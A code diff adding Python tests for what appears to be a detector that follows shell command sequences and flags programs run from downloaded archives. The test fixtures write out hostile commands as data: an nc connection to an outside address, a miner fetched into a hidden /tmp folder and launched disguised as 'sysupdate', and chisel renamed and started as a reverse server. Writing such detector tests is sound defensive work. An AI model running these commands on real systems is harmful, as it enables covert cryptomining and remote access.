@@ -933,3 +933,23 @@ def test_spans_are_characters_not_bytes() -> None:
     _, f = flow(("file", "t.py", text), "python t.py")
     e = execs(f)[0]
     assert text[e.source.start:e.source.end] == "os.system('nc 203.0.113.5 4444')"
+
+
+def test_program_run_from_an_extracted_archive_keeps_the_archive_identity() -> None:
+    _, f = flow(f"curl -sL -o /tmp/p.tgz {MINER_URL}", "mkdir -p /tmp/.p && tar -xzf /tmp/p.tgz -C /tmp/.p",
+                "/tmp/.p/bin/sysupdate -o pool.example.org:3333")
+    ex = next(e for e in execs(f) if e.name == "xmrig")
+    assert ex.path == "/tmp/.p/bin/sysupdate"
+    _, f = flow("wget -q https://example.net/d/chisel_1.9.1_linux_amd64.gz",
+                "gunzip chisel_1.9.1_linux_amd64.gz", "mv chisel_1.9.1_linux_amd64 .x/kw", "./.x/kw server --reverse")
+    assert "chisel" in names(f)
+
+
+def test_program_run_from_a_benign_archive_or_another_folder() -> None:
+    _, f = flow("curl -sL -o /tmp/n.tgz https://nodejs.org/dist/v20.11.0/node-v20.11.0-linux-x64.tar.gz",
+                "tar -xzf /tmp/n.tgz -C /opt", "/opt/node-v20.11.0-linux-x64/bin/node -v")
+    assert f.events == ()
+    _, f = flow(f"curl -sL -o /tmp/p.tgz {MINER_URL}", "tar -xzf /tmp/p.tgz -C /tmp/.p", "/usr/local/bin/app --serve")
+    assert f.events == ()
+    _, f = flow(f"curl -sL -o /tmp/p.tgz {MINER_URL}", "tar -czf /tmp/backup.tgz /tmp/.p", "/tmp/.p/run")
+    assert f.events == ()
